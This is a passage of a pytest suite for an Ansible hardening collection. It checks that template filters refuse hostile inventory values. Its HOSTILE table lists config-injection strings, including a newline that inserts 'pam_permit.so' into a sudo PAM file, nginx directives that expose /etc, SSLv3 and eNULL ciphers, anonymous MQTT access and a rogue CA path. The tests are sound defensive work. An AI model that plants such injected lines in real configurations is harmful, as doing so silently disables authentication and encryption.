        "logging/templates/rsyslog-cityward.conf.j2",
        "_logging_cert_file",
        "/etc/c\u200e.pem",
        "logging_tls_dir",
        "U+200E LEFT-TO-RIGHT MARK",
    ),
    (
        "mfa/templates/pam-sudo.j2",
        "mfa_secret_dir",
        "/run\nauth sufficient pam_permit.so",
        "mfa_secret_dir",
        "character '\\n'",
    ),
    (
        "update_mirror/templates/nginx.conf.j2",
        "update_mirror_port",
        "443 ssl; location / { autoindex on; }",
        "update_mirror_port",
        "expected a whole number",
    ),
    (
        "update_mirror/templates/nginx.conf.j2",
        "update_mirror_tls_protocols",
        ["TLSv1.2;\nssl_protocols SSLv3"],
        "update_mirror_tls_protocols[0]",
        "character ';'",
    ),
    (
        "update_mirror/templates/nginx.conf.j2",
        "update_mirror_tls_ciphers",
        "ALL:eNULL; autoindex on",
        "update_mirror_tls_ciphers",
        "character ';'",
    ),
    (
        "update_mirror/templates/nginx.conf.j2",
        "update_mirror_root",
        "/var/lib/aptly; location /etc { alias /etc",
        "update_mirror_root",
        "character ';'",
    ),
    (
        "patching/templates/mirror-tls.conf.j2",
        "_patching_mirror_tls_hosts",
        ["10.40.16.10::CaInfo \"/tmp/evil.crt\";\n//"],
        "cityward_apt_mirrors",
        "character ' '",
    ),
    (
        "mqtt_gateway/templates/mosquitto.conf.j2",
        "mqtt_gateway_ciphers_tls13",
        "TLS_AES_128_GCM_SHA256\nallow_anonymous true",
        "mqtt_gateway_ciphers_tls13",
        "character '\\n'",
    ),
    (
        "mqtt_gateway/templates/mosquitto.conf.j2",
        "mqtt_gateway_max_connections",
        "-1",
        "mqtt_gateway_max_connections",
        "expected a whole number (character '-'",
    ),
    (
        "mqtt_gateway/templates/mosquitto.conf.j2",
        "mqtt_gateway_max_keepalive",
        [300],
        "mqtt_gateway_max_keepalive",
        "expected a single value, got a list",
    ),
    (
        "mqtt_gateway/templates/mosquitto.conf.j2",
        "mqtt_gateway_max_packet_size",
        {"a": 1},
        "mqtt_gateway_max_packet_size",
        "expected a single value, got a mapping",
    ),
    (
        "mqtt_gateway/templates/acl.j2",
        "mqtt_gateway_acls[1].readwrite",
        ["#\x0c"],
        "mqtt_gateway_acls[].readwrite[0]",
        "character '\\x0c' (U+000C)",
    ),
    (
        "siem_receiver/templates/siem-receiver.conf.j2",
        "_siem_receiver_cert_file",
        "/etc/s.pem\\",
        "siem_receiver_tls_dir",
        "character '\\\\' (U+005C",
    ),
    (
        "siem_receiver/templates/siem-receiver.conf.j2",
        "_siem_receiver_key_file",
        "/etc/s.key\r",
        "siem_receiver_tls_dir",
        "control character '\\r'",
    ),
]
CASE_IDS = [f"{t.split('/')[0]}/{Path(t).stem}:{n}:{i}" for i, (t, _p, _v, n, _m) in enumerate(HOSTILE)]


class Unsafe(str):
    """A value Ansible must not template (YAML !unsafe): the hostile text reaches the filter as is."""


def _unsafe(value):
    if isinstance(value, str):
        # Only where it matters: Ansible resolves an !unsafe scalar's implicit type ("0x16" is 22).
        return Unsafe(value) if "{" in value else value
    if isinstance(value, list):
        return [_unsafe(v) for v in value]
    if isinstance(value, dict):
        return {(Unsafe(k) if isinstance(k, str) else k): _unsafe(v) for k, v in value.items()}
    return value


class _Dumper(yaml.SafeDumper):
    pass


_Dumper.add_representer(Unsafe, lambda dumper, data: dumper.represent_scalar("!unsafe", str(data), style='"'))


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """Run every case (the good values per template, then each hostile one) in one ansible-playbook;
    returns {case id: the task's result}."""
    lab = tmp_path_factory.mktemp("hostile")
    cases = [(f"good:{t}", t, {}) for t in TEMPLATES]
    cases += [
        (case_id, t, _set(path, value)) for case_id, (t, path, value, _n, _m) in zip(CASE_IDS, HOSTILE, strict=True)
    ]
    tasks = []
    for index, (_case_id, template, overrides) in enumerate(cases):
        tasks.append(
            {
                "name": f"case {index}",
                "ansible.builtin.debug": {
                    "msg": "{{ lookup('ansible.builtin.template', '%s') }}" % (ROOT / "roles" / template)
                },
                "vars": {key: _unsafe(value) for key, value in overrides.items()},
                "register": f"case_{index}",
                "ignore_errors": True,
            }
        )
    everything = ", ".join(f"'{i}': case_{i}" for i in range(len(cases)))
    tasks.append(
        {
            "name": "Save the results",
            "ansible.builtin.copy": {
                "content": "{{ {" + everything + "} | to_json }}",
                "dest": str(lab / "results.json"),
                "mode": "0600",
            },
        }
    )
    play = [{"hosts": "localhost", "gather_facts": True, "gather_subset": ["!all"], "vars": GOOD, "tasks": tasks}]
    (lab / "play.yml").write_text(yaml.dump(play, Dumper=_Dumper, sort_keys=False, allow_unicode=False, width=1000))
    env = dict(
        os.environ,
        ANSIBLE_CONFIG=str(ROOT / "ansible.cfg"),
        ANSIBLE_LOCAL_TEMP=str(lab / "tmp"),
        ANSIBLE_FORCE_COLOR="0",
        ANSIBLE_STDOUT_CALLBACK="ansible.builtin.default",
    )
    proc = subprocess.run(
        [
            str(Path(sys.executable).parent / "ansible-playbook"),
            "-i",
            "localhost,",
            "-c",
            "local",
            "-e",
            f"ansible_python_interpreter={sys.executable}",
            str(lab / "play.yml"),
        ],
        capture_output=True,
        text=True,
        env=env,
        cwd=lab,
        timeout=300,
    )
    assert (lab / "results.json").exists(), proc.stdout[-3000:] + proc.stderr[-3000:]
    results = json.loads((lab / "results.json").read_text())
    return {case_id: results[str(i)] for i, (case_id, _t, _o) in enumerate(cases)}


@pytest.mark.parametrize("template", TEMPLATES)
def test_each_template_renders_the_good_values(rendered, template):
    result = rendered[f"good:{template}"]
    assert not result.get("failed"), result.get("msg")
    # The whole file, from its managed-by header to its end.
    assert result["msg"].startswith(("#", "//")) and "managed" in "".join(result["msg"].splitlines()[:2])


@pytest.mark.parametrize(("template", "path", "value", "name", "phrase"), HOSTILE, ids=CASE_IDS)
def test_each_hostile_value_is_refused_naming_its_variable(rendered, template, path, value, name, phrase):
    result = rendered[CASE_IDS[HOSTILE.index((template, path, value, name, phrase))]]
    assert result.get("failed"), f"{path}={value!r} was rendered:\n{result.get('msg')}"
    message = result["msg"]
    assert f"{name}: refused for a configuration file (CW-RES-04)" in message
    assert phrase in message
    assert "Traceback" not in message


def test_good_values_are_rendered_byte_for_byte(rendered):
    assert "Port 22\n" in rendered["good:ssh/templates/sshd_config.j2"]["msg"]
    assert "Ciphers aes256-gcm@openssh.com,aes128-ctr\n" in rendered["good:ssh/templates/sshd_config.j2"]["msg"]
    assert (
        "Match User cityward-auto Address 10.40.10.0/24,::1\n" in rendered["good:ssh/templates/sshd_config.j2"]["msg"]
    )
    assert (
        'PermittedPeer=["field-01", "mqtt-01"]' in rendered["good:siem_receiver/templates/siem-receiver.conf.j2"]["msg"]
    )
    assert "topic write city/telemetry/north/+/t\n" in rendered["good:mqtt_gateway/templates/acl.j2"]["msg"]
    assert "net.ipv4.tcp_rmem = 4096 87380 6291456\n" in rendered["good:kernel/templates/sysctl.conf.j2"]["msg"]
    assert (
        "server nts.netnod.se iburst nts minpoll 4 maxpoll 6\n"
        in rendered["good:logging/templates/chrony.conf.j2"]["msg"]
    )


def _reads(template: str) -> set[str]:
    """The variables a template reads (jinja2's public meta API), loop and set variables excluded."""
    text = (ROOT / "roles" / template).read_text()
    env = jinja2.Environment(extensions=["jinja2.ext.do", "jinja2.ext.loopcontrols"])  # noqa: S701 (parsed only)
    # Ansible's and the collection's filters, as names only: the parse needs to know them.
    env.filters.update(dict.fromkeys(re.findall(r"\|\s*([\w.]+)", text), str))
    return jinja2.meta.find_undeclared_variables(env.parse(text))


@pytest.mark.parametrize("template", TEMPLATES)
def test_every_inventory_value_of_every_template_has_a_hostile_case(template):
    spoiled = {path.replace("[", ".").split(".")[0] for t, path, *_ in HOSTILE if t == template}
    inventory = _reads(template) - NOT_INVENTORY - {"lookup", "query", "q"}
    assert inventory <= spoiled, f"{template}: no hostile case for {sorted(inventory - spoiled)}"
    if inventory:
        assert spoiled, template


def test_every_template_is_rendered_with_good_values():
    missing = (
        {name for template in TEMPLATES for name in _reads(template)}
        - set(GOOD)
        - {"ansible_facts", "inventory_hostname"}
    )
    assert not missing


# The filters themselves, without Ansible: identity on good input, a refusal on anything else.
WORD_CHARS = st.sampled_from(sorted(set("abcXYZ019._:/@+-")))


@given(st.lists(st.text(WORD_CHARS, min_size=1), min_size=1))
def test_a_word_list_is_returned_unchanged(words):
    assert config_values.conf_word(words, "v") is words


@given(st.text(min_size=1), st.characters(blacklist_categories=["L", "N"], blacklist_characters="._:/@+-"))
def test_a_word_with_any_other_character_is_refused(prefix, bad):
    with pytest.raises(AnsibleFilterError, match=r"^v: refused for a configuration file"):
        config_values.conf_word("ok" + bad + prefix, "v")


@given(st.text(), st.characters(whitelist_categories=["Cc"]), st.text())
def test_a_line_or_quoted_string_with_a_control_character_is_refused(before, control, after):
    for check in (config_values.conf_line, config_values.conf_quoted):
        with pytest.raises(AnsibleFilterError, match=r"^v\[0\]: refused .* control character"):
            check([before.replace("{", "") + control + after], "v")


@given(st.integers(min_value=0) | st.from_regex(r"\A[0-9]+\Z"))
def test_a_whole_number_is_returned_unchanged(number):
    assert config_values.conf_int(number, "n") == number


@pytest.mark.parametrize(
    ("value", "phrase"),
    [
        (None, "expected a single value, got null"),
        ({"a": 1}, "expected a single value, got a mapping"),
        ("", "empty where one word is expected"),
        ("a\nb", "(U+000A)"),
    ],
)
def test_conf_word_refuses_non_words(value, phrase):
    with pytest.raises(AnsibleFilterError, match=r"^w: refused") as error:
        config_values.conf_word(value, "w")
    assert phrase in str(error.value)


def test_the_name_in_a_refusal_is_escaped_too():
    with pytest.raises(AnsibleFilterError) as error:
        config_values.conf_name("x y", "kernel_sysctl_extra.a\nb")
    assert str(error.value).startswith("kernel_sysctl_extra.a\\nb: refused")


@pytest.mark.parametrize("name", ["9lives", "a" * 33, "-x"])
def test_conf_name_refuses_what_is_not_a_name(name):
    with pytest.raises(AnsibleFilterError, match="not a user or group name|in a user or group name"):
        config_values.conf_name(name, "user")


def test_the_filters_are_documented_with_their_parameters():
    filters = config_values.FilterModule().filters()
    out = subprocess.run(
        [
            str(Path(sys.executable).parent / "ansible-doc"),
            "--json",
            "-t",
            "filter",
            *(f"cityward.hardening.{name}" for name in filters),
        ],
        capture_output=True,
        text=True,
        check=True,
        cwd="/",
    )
    docs = json.loads(out.stdout)
    for name, function in filters.items():
        documented = set(docs[f"cityward.hardening.{name}"]["doc"]["options"]) - {"_input"}
        assert documented == set(list(inspect.signature(function).parameters)[1:]), name
